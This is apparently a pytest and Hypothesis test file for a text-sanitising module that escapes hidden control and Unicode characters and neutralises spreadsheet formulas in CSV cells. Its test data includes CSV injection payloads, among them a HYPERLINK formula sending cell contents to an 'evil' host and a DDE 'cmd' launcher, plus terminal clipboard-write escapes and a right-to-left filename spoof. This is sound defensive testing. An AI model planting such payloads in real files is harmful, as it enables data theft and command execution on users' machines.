"""What texts hide is seen, in a terminal, a JSON document and a CSV cell; nothing is lost."""

from __future__ import annotations

import csv
import io
import json
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tonne.text.visible import csv_cell, is_plain, look, read_csv_cell, visible, visible_json

HIDDEN = {
    "clear screen": ("\x1b[2J", r"\x1b[2J"),
    "write to the clipboard": ("\x1b]52;c;ZXZpbA==\x07", r"\x1b]52;c;ZXZpbA==\x07"),
    "C1 introducer": ("\x9b31m", r"\x9b31m"),
    "NUL and DEL": ("a\0b\x7f", r"a\x00b\x7f"),
    "line ends": ("a\r\nb\tc", r"a\r\nb\tc"),
    "line ends of Unicode": ("a\x85b\u2028c\u2029d", r"a\x85b\u2028c\u2029d"),
    "right to left": ("\u202egpj.exe\u202c", r"\u202egpj.exe\u202c"),
    "isolates and marks": ("\u2066a\u2069\u200f", r"\u2066a\u2069\u200f"),
    "zero width": ("d\u200bc\u200d\u2060\ufeff", r"d\u200bc\u200d\u2060\ufeff"),
    "tags": ("a\U000e0041", r"a\U000e0041"),
    "fillers": ("\u3164\u115f\u034f", r"\u3164\u115f\u034f"),
    "variants": ("a\ufe0f", r"a\ufe0f"),
    "soft hyphen": ("a\xadb", r"a\xadb"),
    "lone surrogate": ("a\ud800", r"a\ud800"),
}
PLAIN = [
    "",
    "dc-1",
    "Büro Köln",
    "北京 数据中心",
    "تهران",
    "a b\u3000c",
    r"C:\new",
    "(x) = {y}",
    "😀",
]

FORMULAS = [
    '=HYPERLINK("http://evil/"&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "  =1",
    '"=1',
    "'=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\u22121+1",
    "-",
    "--1",
    "+",
    "1;=1+1",
    'a; "=1',
]
NUMBERS = ["-1.5", "+3", "0", "1e-7", "-.5", "12.", "-1E+20"]

TEXTS = st.text(
    st.one_of(
        st.characters(),
        st.sampled_from("=+-@'\"\\;,\n\r\t\0\x1b\x9b\u202e\u200b\uff1dnx0123456789"),
    )
)


@pytest.mark.parametrize(("text", "shown"), HIDDEN.values(), ids=HIDDEN)
def test_what_is_hidden_is_escaped(text, shown):
    """Each character that acts or vanishes stands there as its code."""
    assert visible(text) == shown
    assert not is_plain(text)


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_seen_stays(text):
    """Texts of all scripts are left alone."""
    assert visible(text) == text


@given(TEXTS)
def test_nothing_hidden_is_left(text):
    """What comes out moves no cursor and ends no line, whatever went in."""
    for written in (visible(text), csv_cell(text)):
        assert is_plain(written) or all(
            unicodedata.category(each) == "Zs" or each.isprintable() for each in written
        )
        assert written.splitlines() in ([], [written])
        written.encode()


@given(st.recursive(TEXTS, lambda inner: st.lists(inner) | st.dictionaries(TEXTS, inner)))
def test_json_is_the_same_to_a_parser(value):
    """Escapes of JSON hide nothing from people and change nothing for programs."""
    document = visible_json(json.dumps(value, ensure_ascii=False, indent=1))
    assert json.loads(document) == value
    assert is_plain("".join(document.replace("\n", "").split("\u3000"))) or all(
        each.isprintable() or unicodedata.category(each) == "Zs" or each == "\n"
        for each in document
    )


@given(TEXTS)
def test_a_cell_reads_back(text):
    """What is written into CSV comes back to the last character, and is no formula."""
    sink = io.StringIO(newline="")
    csv.writer(sink, lineterminator="\n").writerow([csv_cell(text), "next"])
    ((cell, following),) = csv.reader(io.StringIO(sink.getvalue(), newline=""))
    assert following == "next"
    assert read_csv_cell(cell) == text
    assert not cell.lstrip(" \"'").startswith(tuple("=@")) or cell.startswith("'")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text):
    """A spreadsheet takes the cell for a text, also one whose cells are parted by semicolons."""
    cell = csv_cell(text)
    for part in cell.split(";"):
        assert not part.lstrip(' "').startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20\u2212"))
    assert read_csv_cell(cell) == text


@pytest.mark.parametrize("text", NUMBERS)
def test_numbers_stay_numbers(text):
    """A text that is a number can be summed."""
    assert csv_cell(text) == text


def test_what_looks_the_same_is_told():
    """NFC and NFD, and what prints nothing, do not tell two texts apart for people."""
    assert look("Bu\u0308ro") == look("B\u00fcro") == look("B\u00fcr\u200bo")
    assert look("Buro") != look("B\u00fcro")
